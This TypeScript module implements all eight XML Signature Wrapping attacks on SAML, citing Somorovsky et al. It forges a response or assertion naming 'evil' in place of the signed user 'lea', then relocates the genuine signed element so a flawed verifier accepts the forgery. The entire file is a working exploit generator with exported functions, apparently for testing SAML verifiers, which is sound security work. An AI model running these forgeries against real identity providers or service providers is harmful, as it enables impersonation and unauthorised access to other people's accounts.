/** Signature wrapping after Somorovsky et al. ("On Breaking SAML", 2012): eight ways to move what was signed aside. */
import { DOMParser, type Element, XMLSerializer } from '@xmldom/xmldom'

const dsig = 'http://www.w3.org/2000/09/xmldsig#'

const children = (node: Element, name: string): Element[] =>
  Array.from(node.childNodes).filter((one): one is Element => 'localName' in one && one.localName === name)

const first = (node: Element, name: string): Element => {
  const [found] = children(node, name)
  if (!found) throw new Error(`no ${name}`)
  return found
}

/** Replaces what names somebody by somebody else. */
const forge = (element: Element, id: string): Element => {
  const copy = element.cloneNode(true) as Element
  copy.setAttribute('ID', id)
  for (const signature of children(copy, 'Signature')) copy.removeChild(signature)
  const text = new XMLSerializer().serializeToString(copy).replaceAll('lea', 'evil')
  const forged = new DOMParser().parseFromString(text, 'text/xml').documentElement
  if (!forged) throw new Error('nothing forged')
  return forged as Element
}

interface Parts {
  readonly response: Element
  readonly assertion: Element
  readonly signature: Element
}

type Attack = (parts: Parts) => Element

/** On a signed response whose root is signed (1, 2), or a signed assertion (3 to 8). */
const attacks: Readonly<Record<string, { readonly over: 'response' | 'assertion'; readonly run: Attack }>> = {
  'XSW 1: the signed response inside the signature of a forged one': {
    over: 'response',
    run: ({ response, signature }) => {
      const original = response.cloneNode(true) as Element
      for (const one of children(original, 'Signature')) original.removeChild(one)
      const forged = forge(response, '_evil')
      const own = signature.cloneNode(true) as Element
      own.appendChild(original)
      forged.insertBefore(own, forged.childNodes[1] ?? null)
      return forged
    },
  },
  'XSW 2: the signed response before a detached signature': {
    over: 'response',
    run: ({ response, signature }) => {
      const original = response.cloneNode(true) as Element
      for (const one of children(original, 'Signature')) original.removeChild(one)
      const forged = forge(response, '_evil')
      forged.appendChild(original)
      forged.appendChild(signature.cloneNode(true))
      return forged
    },
  },
  'XSW 3: a forged assertion before the signed one': {
    over: 'assertion',
    run: ({ response, assertion }) => {
      response.insertBefore(forge(assertion, '_evil'), assertion)
      return response
    },
  },
  'XSW 4: the signed assertion inside a forged one': {
    over: 'assertion',
    run: ({ response, assertion }) => {
      const forged = forge(assertion, '_evil')
      response.replaceChild(forged, assertion)
      forged.appendChild(assertion)
      return response
    },
  },
  'XSW 5: a forged assertion keeps the signature, the original stands at the end without it': {
    over: 'assertion',
    run: ({ response, assertion, signature }) => {
      const original = assertion.cloneNode(true) as Element
      for (const one of children(original, 'Signature')) original.removeChild(one)
      const forged = forge(assertion, '_evil')
      forged.insertBefore(signature.cloneNode(true), forged.childNodes[1] ?? null)
      response.replaceChild(forged, assertion)
      response.appendChild(original)
      return response
    },
  },
  'XSW 6: the original inside the signature of a forged one': {
    over: 'assertion',
    run: ({ response, assertion, signature }) => {
      const original = assertion.cloneNode(true) as Element
      for (const one of children(original, 'Signature')) original.removeChild(one)
      const forged = forge(assertion, '_evil')
      const own = signature.cloneNode(true) as Element
      own.appendChild(original)
      forged.insertBefore(own, forged.childNodes[1] ?? null)
      response.replaceChild(forged, assertion)
      return response
    },
  },
  'XSW 7: a forged assertion in Extensions before the signed one': {
    over: 'assertion',
    run: ({ response, assertion }) => {
      const extensions = response.ownerDocument?.createElementNS(response.namespaceURI, 'samlp:Extensions') as Element
      extensions.appendChild(forge(assertion, assertion.getAttribute('ID') ?? ''))
      response.insertBefore(extensions, assertion)
      return response
    },
  },
  'XSW 8: the original in an Object of the signature of a forged one': {
    over: 'assertion',
    run: ({ response, assertion, signature }) => {
      const original = assertion.cloneNode(true) as Element
      for (const one of children(original, 'Signature')) original.removeChild(one)
      const forged = forge(assertion, '_evil')
      const own = signature.cloneNode(true) as Element
      const object = own.ownerDocument?.createElementNS(dsig, 'ds:Object') as Element
      object.appendChild(original)
      own.appendChild(object)
      forged.insertBefore(own, forged.childNodes[1] ?? null)
      response.replaceChild(forged, assertion)
      return response
    },
  },
}

export const wrappings = Object.entries(attacks).map(([name, { over }]) => ({ name, over }))

/** The document after the attack. */
export const wrap = (name: string, xml: string): string => {
  const attack = attacks[name]
  const response = new DOMParser().parseFromString(xml, 'text/xml').documentElement as Element | null
  if (!attack || !response) throw new Error(name)
  const assertion = children(response, 'Assertion')[0] ?? response
  const signature = first(attack.over === 'response' ? response : assertion, 'Signature')
  return new XMLSerializer().serializeToString(attack.run({ response, assertion, signature }))
}
